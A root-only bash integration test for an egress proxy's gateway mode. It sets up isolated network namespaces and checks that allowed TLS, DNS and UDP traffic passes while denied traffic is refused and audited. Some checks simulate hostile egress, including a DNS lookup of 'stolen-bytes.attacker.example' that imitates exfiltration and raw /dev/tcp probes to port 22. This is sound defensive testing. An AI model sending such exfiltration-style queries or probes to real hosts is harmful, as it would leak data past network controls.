#!/usr/bin/env bash
# The gateway shape across three network namespaces of its own (client, gateway, origin), with the
# nftables ruleset `egress-proxy nft --shape gateway` renders. Needs root. Usage: gateway.sh BIN
# Every address is in 10.77.0.0/16 or fd77::/16 inside namespaces this script creates and deletes.
set -euo pipefail
BIN="$1"
PREFIX=ep
NAMESPACES="client gw origin"
BIG_BYTES=10485760
source "$(dirname "$0")/lib.sh"

ip link add c0 netns ep-client type veth peer name g0 netns ep-gw
ip link add g1 netns ep-gw type veth peer name o0 netns ep-origin
ns client ip addr add 10.77.1.2/24 dev c0; ns client ip link set c0 up; ns client ip route add default via 10.77.1.1
ns gw ip addr add 10.77.1.1/24 dev g0; ns gw ip link set g0 up
ns gw ip addr add 10.77.2.1/24 dev g1; ns gw ip link set g1 up
ns gw sysctl -q -w net.ipv4.ip_forward=1
ns origin ip addr add 10.77.2.2/24 dev o0; ns origin ip addr add 10.77.2.3/24 dev o0; ns origin ip link set o0 up
ns origin ip route add default via 10.77.2.1
# IPv6 beside IPv4 on the same links: the ruleset's inet table redirects both families.
ns client ip -6 addr add fd77:1::2/64 dev c0 nodad; ns client ip -6 route add default via fd77:1::1
ns gw ip -6 addr add fd77:1::1/64 dev g0 nodad; ns gw ip -6 addr add fd77:2::1/64 dev g1 nodad
ns gw sysctl -q -w net.ipv6.conf.all.forwarding=1
ns origin ip -6 addr add fd77:2::2/64 dev o0 nodad; ns origin ip -6 addr add fd77:2::3/64 dev o0 nodad
ns origin ip -6 addr add fd77:2::4/64 dev o0 nodad
ns origin ip -6 route add default via fd77:2::1

ns origin ip addr add 10.77.2.53/24 dev o0
origin https 10.77.2.2 443 "$work/cert.pem" "$work/key.pem" A "$work/big"
# The upstream resolver the proxy asks: ours, answering 10.77.2.2 and writing down every name asked.
origin dns 10.77.2.53 10.77.2.2 "$work/dns-asked"
origin https 10.77.2.3 443 "$work/cert.pem" "$work/key.pem" B "$work/big"
origin tcp 10.77.2.3 22 "$work/reached"
origin https fd77:2::2 443 "$work/cert.pem" "$work/key.pem" A6 "$work/big"
origin tcp fd77:2::3 22 "$work/reached"
origin udp 10.77.2.2 443 "$work/reached"
# A UDP rule's addresses become nft sets, one per family: fd77:2::4 is in the v6 set, fd77:2::3 is not.
origin udp fd77:2::4 5000 "$work/udp6-allowed"
origin udp fd77:2::3 5000 "$work/udp6-other"

config() { # config MISMATCH
  cat > "$work/policy.toml" <<TOML
[listen]
tls = "[::]:3129"
plain = "[::]:3130"
catch_all = "[::]:3131"
dns = "[::]:3053"
[resolve]
upstream = ["10.77.2.53"]
[audit]
path = "$work/audit.jsonl"
[safety]
allow_internal = ["10.77.0.0/16", "fd77::/16"]
[transparent]
original_dst_mismatch = "$1"
[resolve.static]
"ml.azure.com" = ["10.77.2.2", "fd77:2::2"]
"evil.example.com" = ["10.77.2.3"]
[[rule]]
name = "azureml"
action = "allow"
hosts = ["ml.azure.com"]
ports = [443]
[[rule]]
name = "dns-test"
action = "allow"
hosts = ["answer.dnstest.example"]
ports = [443]
[[rule]]
name = "udp-v6"
action = "allow"
protocol = "udp"
cidrs = ["fd77:2::4/128"]
ports = [5000]
TOML
}
start_proxy() {
  ip netns exec ep-gw "$BIN" run --config "$work/policy.toml" >/dev/null 2>>"$work/proxy.log" &
  proxy=$!
  pids+=("$proxy")
  for _ in $(seq 100); do
    if ns gw bash -c 'exec 3<>/dev/tcp/127.0.0.1/3129' 2>/dev/null; then return 0; fi
    sleep 0.05
  done
  echo "the proxy did not start:"; cat "$work/proxy.log"; return 1
}
curl_to() { # curl_to NAME ADDR PATH
  ns client curl -sS --max-time 10 --cacert "$work/cert.pem" --resolve "$1:443:$2" "https://$1$3"
}

config log
"$BIN" nft --config "$work/policy.toml" --shape gateway > "$work/gateway.nft"
ns gw nft -f "$work/gateway.nft"
start_proxy
ready 10.77.2.2
ready 10.77.2.3
ready "[fd77:2::2]"
big_sum="$(curl_to ml.azure.com 10.77.2.2 /big | sha256sum | cut -d' ' -f1)" || big_sum=failed
check "10 MB through the tls listener arrives intact" [ "$big_sum" = "$(sha256sum < "$work/big" | cut -d' ' -f1)" ]
check "refused name is refused" bash -c "! ip netns exec ep-client curl -sS --max-time 5 --cacert '$work/cert.pem' --resolve evil.example.com:443:10.77.2.3 https://evil.example.com/ >/dev/null 2>&1"
check "refused name is audited" audit_has '"host":"evil.example.com","port":443,"dst_addr":null,"decision":"deny","rule":null,"reason":"no_rule"'
check "allowed SNI sent to the refused server's address reaches the name's own server" [ "$(curl_to ml.azure.com 10.77.2.3 /)" = A ]
check "the mismatch is audited" audit_has '"original_dst":"10.77.2.3:443","note":"original_dst_mismatch"'
check "TCP to port 22 is reset" bash -c "! ip netns exec ep-client timeout 3 bash -c 'exec 3<>/dev/tcp/10.77.2.3/22; cat <&3' >/dev/null 2>&1"
check "port 22 is audited with its original destination" audit_has '"reason":"catch_all","original_dst":"10.77.2.3:22"'
check "IPv6: TLS through the tls listener reaches the name's server" [ "$(curl_to ml.azure.com '[fd77:2::2]' /)" = A ]
check "IPv6: its original destination is read and audited" audit_has '"original_dst":"\[fd77:2::2\]:443"'
check "IPv6: TCP to port 22 is reset" bash -c "! ip netns exec ep-client timeout 3 bash -c 'exec 3<>/dev/tcp/fd77:2::3/22; cat <&3' >/dev/null 2>&1"
check "IPv6: port 22 is audited with its original destination" audit_has '"reason":"catch_all","original_dst":"\[fd77:2::3\]:22"'
ns client bash -c 'echo quic > /dev/udp/10.77.2.2/443' || true
sleep 0.5
check "neither port 22 nor UDP 443 reached the origin" [ ! -s "$work/reached" ]
# DNS: the client asks a resolver of its choice; the gateway redirects port 53 to the DNS filter.
dig_a() { ns client dig +short +time=3 +tries=1 "@$1" "$2" A; }
check "DNS: an allowed name is answered, from our upstream" [ "$(dig_a 10.77.2.53 answer.dnstest.example)" = 10.77.2.2 ]
check "DNS: whichever resolver the client names" [ "$(dig_a 192.0.2.1 answer.dnstest.example)" = 10.77.2.2 ]
check "DNS: a refused name gets REFUSED" bash -c "ip netns exec ep-client dig +time=3 +tries=1 @10.77.2.53 stolen-bytes.attacker.example A | grep -q 'status: REFUSED'"
check "DNS: and the upstream never heard of it" bash -c "! grep -q attacker '$work/dns-asked'"
check "DNS: the question is audited" audit_has '"event":"dns","client":"10.77.1.2:[0-9]*","name":"stolen-bytes.attacker.example","type":"A","decision":"deny","reason":"no_rule"'
check "DNS: over TCP too" [ "$(ns client dig +short +tcp +time=3 +tries=1 @10.77.2.53 answer.dnstest.example A)" = 10.77.2.2 ]
# Sent until the allowed one arrives (the origin's listener may still be starting, and the first
# IPv6 datagrams wait on neighbour discovery), as many to the address outside the set.
for _ in $(seq 25); do
  ns client bash -c 'echo allowed > /dev/udp/fd77:2::4/5000; echo other > /dev/udp/fd77:2::3/5000' || true
  [ -s "$work/udp6-allowed" ] && break
  sleep 0.2
done
sleep 0.3
check "IPv6: UDP to an address in the rule's v6 nft set passes" [ -s "$work/udp6-allowed" ]
check "IPv6: UDP to an address not in it is dropped" [ ! -s "$work/udp6-other" ]

kill "$proxy"; wait "$proxy" 2>/dev/null || true
config deny
start_proxy
check "with original_dst_mismatch = deny the mismatch is refused" bash -c "! ip netns exec ep-client curl -sS --max-time 5 --cacert '$work/cert.pem' --resolve ml.azure.com:443:10.77.2.3 https://ml.azure.com/ >/dev/null 2>&1"
check "and audited as sni_mismatch" audit_has '"reason":"sni_mismatch"'

echo "netns gateway: $passed passed, $failed failed"
[ "$failed" -eq 0 ]
